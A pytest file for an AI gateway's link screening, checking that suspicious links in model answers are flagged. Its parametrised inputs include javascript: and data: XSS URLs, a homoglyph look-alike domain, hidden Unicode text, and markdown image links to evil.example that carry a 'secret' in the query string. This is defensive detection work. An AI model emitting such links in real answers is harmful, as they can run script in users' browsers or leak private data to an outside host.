"""A link of an answer that is not what it seems is noted with the call."""

import pytest

from gateway.calls import Purpose, Speaker, Turn
from gateway.screening.links import odd_links
from tests.gateway.test_calling_a_model import asked, called
from tests.gateway.test_providers_over_the_wire import OPENAI, House, house  # noqa: F401  # a fixture


@pytest.mark.parametrize(
    ("text", "oddities"),
    [
        ("[x](javascript:alert(1))", ("executed",)),
        ("<a href='JaVaScript:alert(1)'>x</a>", ("executed",)),
        ("![x](data:text/html;base64,PHNjcmlwdD4=)", ("executed",)),
        ("see https://ana:secret@acme.example/x", ("credentials",)),
        ("see https://xn--80ak6aa92e.example/", ("punycode",)),
        ("see https://p\u0430ypal.example/", ("look_alike",)),
        ("see https://acme.example/a?b=c#d and mailto:ana@acme.example", ()),
        ("see https://\u043f\u043e\u0448\u0442\u0430.example/", ()),
        ("Data: four weeks. Note: none.", ()),
        ("https://[half", ("malformed",)),
        ("![chart](https://evil.example/?q=the+secret)", ("remote_image",)),
        ("<img width=1 src='//evil.example/x'>", ("remote_image",)),
        ("![chart](/files/chart.png)", ()),
        ("Four weeks.\U000e0049\U000e0067", ("hidden_text",)),
        ("turn \u202e around", ("hidden_text",)),
        ("\U0001f469\u200d\U0001f52c measures", ()),
    ],
)
def test_what_is_odd_about_a_link_is_told(text: str, oddities: tuple[str, ...]) -> None:
    assert odd_links(text) == oddities


async def test_it_is_noted_with_the_call(house: House) -> None:  # noqa: F811
    house.first.pieces = ["See https://ana:", "secret@acme.example/x."]
    turns = (Turn(Speaker.USER, "Where?"),)
    _, answer = await called(
        house.colophon, house.acme.ana, asked(model=OPENAI, purpose=Purpose.COMPLETION, variables={}, turns=turns)
    )
    assert dict(answer.settled.verdicts) == {"links.answer": "note:credentials"}
